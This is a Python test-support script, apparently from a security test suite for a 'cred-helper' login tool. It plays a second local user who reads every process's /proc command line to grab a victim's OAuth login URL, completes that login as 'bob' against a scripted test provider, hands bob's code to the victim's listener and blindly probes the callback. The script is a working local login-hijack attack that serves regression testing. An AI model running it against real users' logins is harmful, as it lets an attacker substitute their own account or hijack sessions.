"""Issue 22's second local user: run as another uid, it watches the command lines of every
process (/proc/PID/cmdline is readable by all users) for the browser a victim's
`cred-helper login` started, takes the URL it was given, and tries to finish that login as
bob: fetch the URL, sign in at the provider with the victim's parameters, and hand bob's code
to the victim's listener. It also tries the listener's callback blind.

    python local_attacker.py MARKER REPORT DONE [--fetch-only]

MARKER: an argument of the victim's browser command line; REPORT: a JSON file it writes with
what happened; DONE: a file it creates when it has tried (the victim's scripted browser waits
for it, so the attacker always wins the race). `--fetch-only` stops after fetching the URL.
"""

from __future__ import annotations

import json
import os
import sys
import time
import traceback
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import requests

sys.path.insert(0, str(Path(__file__).resolve().parents[2]))

from tests.support.oidc_provider import ScriptedBrowser


def find_url(marker: str, timeout: float = 30) -> str | None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            try:
                args = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            words = [a.decode(errors="replace") for a in args]
            url = next((w for w in words if w.startswith("http")), None)
            if marker in words and url:  # (its own command line has the marker too)
                return url
        time.sleep(0.02)
    return None


def attack(marker: str, fetch_only: bool) -> dict:
    report: dict = {"uid": os.getuid(), "url": find_url(marker)}
    url = report["url"]
    if not url:
        return report
    if "state=" in url:  # the provider's URL itself is on the command line
        location = url
    else:
        first = requests.get(url, allow_redirects=False, timeout=10)
        report["fetch"] = first.status_code
        location = first.headers.get("Location")
    report["location"] = location
    if location and not fetch_only:
        redirect_uri = parse_qs(urlsplit(location).query)["redirect_uri"][0]
        landed = ScriptedBrowser("bob").approve(location, stop_at=redirect_uri)
        report["delivered"] = requests.get(landed, timeout=10).status_code
        listener = redirect_uri.rsplit("/", 1)[0]
    else:
        listener = url.split("/login/")[0] if "/login/" in url else ""
    if listener and not fetch_only:
        try:
            report["blind"] = requests.get(f"{listener}/callback?code=x&state=guess",
                                           timeout=10).status_code
        except requests.ConnectionError:
            report["blind"] = "closed"  # the login is over
    return report


def main() -> None:
    marker, out, done = sys.argv[1:4]
    try:
        report = attack(marker, "--fetch-only" in sys.argv)
    except Exception:  # reported for the test, which judges it
        report = {"uid": os.getuid(), "failed": traceback.format_exc(limit=4)}
    Path(out).write_text(json.dumps(report))
    Path(done).touch()


if __name__ == "__main__":
    main()
